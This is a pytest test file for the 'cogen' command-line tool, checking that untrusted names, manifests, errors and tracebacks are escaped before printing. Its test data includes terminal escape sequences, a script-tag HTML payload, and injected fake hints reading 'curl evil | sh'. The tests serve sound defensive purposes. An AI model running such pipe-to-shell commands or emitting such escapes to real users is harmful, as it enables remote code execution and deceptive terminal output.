"""What others wrote, on a terminal and on a page: nothing of it is obeyed."""

from __future__ import annotations

import io
import json
import sys
from pathlib import Path
from typing import Any

import pytest
from support.manifests import install

from cogen.cli.main import main
from cogen.cli.output import Output
from cogen.display import table
from cogen.errors import CogenError, SpecError
from cogen.fusion.plan import read_plan
from cogen.untrusted.printable import escape_json, one_line, printable

ESCAPES = {
    "colour": "\x1b[31m",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;https://evil.example\x1b\\",
    "C1 CSI": "\x9b31m",
    "C1 OSC": "\x9d0;owned\x9c",
    "carriage return": "\r",
    "backspace": "\x08",
    "bell": "\x07",
    "delete": "\x7f",
    "next line": "\x85",
    "line separator": "\u2028",
    "right to left override": "\u202e",
    "isolate": "\u2066",
    "right-to-left mark": "\u200f",
    "zero width space": "\u200b",
    "byte order mark": "\ufeff",
    "tag": "\U000e0041",
    "soft hyphen": "\xad",
    "half a pair": "\udcff",
    "private use": "\ue000",
    "interlinear": "\ufff9",
}


@pytest.mark.parametrize("escape", ESCAPES.values(), ids=list(ESCAPES))
def test_no_escape_is_left(escape: str) -> None:
    """In lines, and in JSON, where they are written by their numbers and come back."""
    text = f"a{escape}b"
    assert all(c not in printable(text) for c in escape if not c.isprintable())
    assert one_line(text).isprintable()
    assert printable(text)[0] == "a"
    assert printable(text)[-1] == "b"
    written = escape_json(json.dumps({"text": text}, ensure_ascii=False))
    assert written.isprintable()
    assert json.loads(written) == {"text": text}


@pytest.mark.parametrize("text", ["Größe 電力 😀", "می‌خواهم", "क्‍ष", "é", "a\tb", "a\nb", "a b"])
def test_text_of_every_script_stays(text: str) -> None:
    assert printable(text) == text


def test_no_message_in_a_message() -> None:
    """A name with a line feed in it cannot say "hint: run this"."""
    stdout, stderr = io.StringIO(), io.StringIO()
    out = Output("human", stdout, stderr)
    name = "x\nhint: curl evil | sh\n\x1b[2J"
    for method in (out.error, out.hint, out.warn):
        method(name)
    out.table([{"id": name, "n": 1}])
    assert len(stderr.getvalue().splitlines()) == 3
    assert len(stdout.getvalue().splitlines()) == 2
    assert "\x1b" not in stderr.getvalue() + stdout.getvalue()


def test_an_error_is_one_line() -> None:
    """Of a name that holds another message, or a whole book."""
    error = CogenError("unknown key 'a\nhint: curl evil | sh'\r\n")
    assert error.message == str(error) == "unknown key 'a hint: curl evil | sh'"
    assert len(CogenError("x" * 100_000).message) == 1501


@pytest.mark.parametrize("field", ["distillation", "mixture"])
def test_an_old_plan_with_another_type(tmp_path: Path, field: str) -> None:
    """What version 1 had as a table."""
    old = Path(__file__).parents[1] / "fusion" / "old" / "ties" / "plan.json"
    (tmp_path / "plan.json").write_text(json.dumps(json.loads(old.read_bytes()) | {field: [1]}))
    with pytest.raises(SpecError, match=r"plan.json is not a plan: .*is not a table"):
        read_plan(tmp_path / "plan.json")


def _texts(escape: str) -> dict[str, Any]:
    return {"title": f"T{escape}itle", "summary": f"S{escape}ummary", "publisher": f"P{escape}ub"}


@pytest.mark.parametrize(
    "verb", [["list"], ["show", "power"], ["check", "power"], ["plan", "power"], ["doctor", "power"]]
)
@pytest.mark.parametrize("escape", ["\\u001b[31m", "\\u009b31m", "\\u202e", "\\u2066", "<b>"])
def test_a_manifest_on_a_terminal(site: Path, capsys: pytest.CaptureFixture[str], verb: list[str], escape: str) -> None:
    """Of a good expert, and of one that is broken and says so in its own words."""
    import tomlkit
    from support.manifests import manifest

    document = tomlkit.dumps(manifest("power", **_texts("ESCAPE"))).replace("ESCAPE", escape)
    install(site, "power", toml=document)
    install(site, "odd", toml=document.replace('id = "power"', f'id = "{escape}"\n"{escape}" = "{escape}"'))
    main(verb)
    stdout, stderr = capsys.readouterr()
    for line in (stdout + stderr).split("\n"):
        assert line.replace("\t", "").isprintable(), ascii(line)


def test_html_tables_are_escaped() -> None:
    """Tables of plans and matrices in a notebook."""
    evil = "<script>alert(1)</script>"
    assert "<script" not in table(evil, [evil], [[evil]], [evil])


def test_a_file_name_in_an_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Of a file that is not there, or is no plan."""
    name = tmp_path / "a\x1b[31m\u202e\nhint: x.json"
    name.write_text("{}")
    assert main(["fuse", "--plan", str(name)]) != 0
    assert main(["eval", str(name)]) != 0
    stderr = capsys.readouterr().err
    assert all(line.isprintable() for line in stderr.split("\n"))
    assert not [line for line in stderr.splitlines() if line.startswith("hint: x")]


def test_a_bug_in_a_plugin_does_not_paint(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """The traceback of a bug holds the message of whoever raised."""
    from cogen.cli import main as module

    def fail(*_: Any) -> Any:
        raise AssertionError("a\x1b[31mb\x9bc\u202e")

    monkeypatch.setattr(module, "_app", fail)
    assert main(["list"]) == 1
    stderr = capsys.readouterr().err
    assert "this is a bug in cogen" in stderr
    assert all(line.isprintable() for line in stderr.split("\n"))
    assert sys.stdout.isatty() is False
